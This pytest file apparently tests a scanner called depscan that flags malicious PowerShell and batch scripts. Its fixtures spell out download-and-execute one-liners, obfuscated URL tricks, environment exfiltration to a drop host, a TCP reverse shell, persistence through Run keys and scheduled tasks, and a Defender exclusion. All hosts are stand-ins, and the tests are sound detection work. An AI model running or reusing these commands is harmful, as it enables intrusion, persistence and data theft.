from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from depscan.facts.batch import read_batch
from depscan.facts.powershell import read_powershell
from tests.unit.facts.seen import one, reached_by, script_of, words

URL = "https://files.example.invalid/a.exe"


@pytest.mark.parametrize(
    "text",
    [
        f"IEX (New-Object Net.WebClient).DownloadString('{URL}')",
        f"iwr -useb {URL} | iex",
        f"$c = (New-Object Net.WebClient).DownloadString('{URL}')\nInvoke-Expression $c",
        f"I`E`X ((New-Object Net.WebClient).DownloadString('{URL}'))",
        "$u = 'https://files.exa' + 'mple.invalid/' + 'a.exe'; iex (irm $u)",
        f"& ([scriptblock]::Create((irm {URL})))",
    ],
)
def test_fetched_powershell_that_is_evaluated_is_seen(text: str) -> None:
    facts = script_of(read_powershell, text)
    assert "net.download" in reached_by(facts, "code.eval")


def test_a_downloaded_program_that_is_started_is_seen() -> None:
    text = f'$p = "$env:TEMP\\a.exe"\nInvoke-WebRequest -Uri {URL} -OutFile $p\nStart-Process $p -WindowStyle Hidden'
    facts = script_of(read_powershell, text)
    assert "net.download" in reached_by(facts, "process.spawn")
    assert "hidden" in one(facts, "process.spawn").guards
    assert one(facts, "process.spawn").line == 3


@pytest.mark.parametrize(
    "url",
    [
        "('{1}{0}' -f 'mple.invalid/a.exe','https://files.exa')",
        "('https://files.eQQmple.invalid/a.exe' -replace 'QQ','xa')",
        "('https://files.eQQmple.invalid/a.exe'.Replace('QQ','xa'))",
        "(-join ('https://files.exam','ple.invalid/','a.exe'))",
        "([char]104 + [char]0x74 + 'tps://files.example.invalid/a.exe')",
        "([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aHR0cHM6Ly9maWxlcy5leGFtcGxlLmludmFsaWQvYS5leGU=')))",
    ],
)
def test_addresses_built_from_pieces_are_folded(url: str) -> None:
    facts = script_of(read_powershell, f"$w = New-Object Net.WebClient; $w.DownloadFile({url}, 'a.exe')")
    assert URL in one(facts, "net.download").values[0]


def test_environment_posted_from_powershell_is_seen() -> None:
    facts = script_of(
        read_powershell,
        "$e = Get-ChildItem env: | ConvertTo-Json\nInvoke-RestMethod -Uri https://drop.example.invalid -Method Post -Body $e",  # noqa: E501, RUF100
    )
    assert reached_by(facts, "net.send") == {"env.dump"}


def test_a_powershell_reverse_shell_is_seen() -> None:
    text = "$c = New-Object System.Net.Sockets.TCPClient('h.example.invalid',4444);$s = $c.GetStream();while($true){$r = (iex $d 2>&1)}"  # noqa: E501, RUF100
    facts = script_of(read_powershell, text)
    assert one(facts, "net.connect").values == ("tcp://h.example.invalid:4444",)
    assert "reverse" in one(facts, "process.spawn").guards


@pytest.mark.parametrize(
    ("text", "what"),
    [
        (
            "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name a -Value b",
            "persist",
        ),
        ("Register-ScheduledTask -TaskName a -Action $x", "persist"),
        ("Add-MpPreference -ExclusionPath C:\\", "anti.analysis"),
        ("$x = Get-Clipboard", "clipboard.read"),
        ("[Reflection.Assembly]::Load($bytes)", "code.load-native"),
    ],
)
def test_telling_cmdlets_are_facts(text: str, what: str) -> None:
    assert what in words(script_of(read_powershell, text))


def test_batch_variables_carets_and_slices_are_resolved() -> None:
    text = f'@echo off\r\nset a=cu\r\nset b=xxrl\r\nc^a^ll %a%%b:~2,2% -o %TEMP%\\a.exe {URL}\r\nstart "" /b %TEMP%\\a.exe\r\n'  # noqa: E501, RUF100
    facts = script_of(read_batch, text)
    assert one(facts, "net.download").values == (URL,)
    assert "net.download" in reached_by(facts, "process.spawn")
    assert one(facts, "process.spawn").line == 5


def test_batch_loops_over_a_command_carry_its_output() -> None:
    facts = script_of(read_batch, "for /f \"delims=\" %%i in ('whoami') do curl https://drop.example.invalid/%%i\r\n")
    assert reached_by(facts, "net.send") == {"host.identify"}


@pytest.mark.parametrize(
    "text",
    [
        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d C:\\a.exe /f",
        "schtasks /create /sc minute /tn a /tr C:\\a.exe",
        "if not exist x (schtasks /create /sc onlogon /tn a /tr C:\\a.exe)",
    ],
)
def test_batch_registrations_persist(text: str) -> None:
    assert "persist" in words(script_of(read_batch, text))


def test_batch_hands_powershell_to_its_reader() -> None:
    facts = script_of(read_batch, f'powershell -w hidden -c "iwr {URL} | iex"')
    assert "net.download" in reached_by(facts, "code.eval")


@settings(max_examples=100, deadline=None)
@given(st.text(alphabet="ab$'\"(){}[]|;+-,.%^&=:~ \n01fx", max_size=80))
def test_any_text_is_read_without_an_error(text: str) -> None:
    script_of(read_powershell, text)
    script_of(read_batch, text)
